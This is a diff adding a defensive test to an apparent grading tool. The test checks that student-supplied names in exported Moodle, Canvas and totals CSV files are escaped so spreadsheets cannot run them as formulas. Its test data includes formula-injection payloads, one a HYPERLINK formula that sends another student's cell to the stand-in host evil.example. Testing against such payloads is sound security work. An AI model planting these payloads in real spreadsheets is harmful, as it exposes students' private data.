@@ -92,3 +92,26 @@ def test_output_modes_share_feedback_and_keep_results_private(tmp_path: Path) ->
                               out / "feedback" / "ann" / "fake", out / "gradescope" / "ann")} == {0o755}
     assert mode(out / "results") == mode(out / "logs") == 0o700
     assert {mode(p) for p in (out / "results").iterdir()} == {0o600}
+
+
+def test_no_cell_of_any_csv_is_a_spreadsheet_formula() -> None:
+    """A Moodle full name is the student's own profile text: `=HYPERLINK("..."&A3)` would read other students' cells
+    when a TA opens the worksheet. Every text cell that a spreadsheet would run is written as text; numbers stay."""
+    results = _results()
+    names = ['=HYPERLINK("evil.example"&A3)', "+1+2", "-2+3", "@SUM(1)"]
+    for n, name in enumerate(names):
+        student = f"m{n}"
+        rows = tuple(Row(student, "fake", "fake.ipynb", q.grade_id, 0.0, q.points, "failed",
+                         say("upload.problem", reason="m")) for q in FAKE.questions)
+        results[student] = Result(student, "fake", "fake.ipynb",
+                                  f"moodle.zip:{name}_{700 + n}_assignsubmission_file_/fake.ipynb", False, 1, (), {},
+                                  0.1, rows, submitted=True)
+    moodle = _rows(totals.moodle_csv(results, FAKE))
+    assert [row[1] for row in moodle[2:]] == [f"'{name}" for name in names]
+    for data in (totals.moodle_csv(results, FAKE), totals.canvas_csv(results, FAKE), totals.totals_csv(results, FAKE),
+                 records.csv_bytes(results)):
+        for row in _rows(data):
+            formulas = [cell for cell in row if cell and cell[0] in "=+-@\t\r"
+                        and not cell.lstrip("+-").replace(".", "").isdigit()]
+            assert not formulas, row
+    assert totals.as_text("-1.5") == "-1.5" and totals.as_text("Ben Bo") == "Ben Bo"
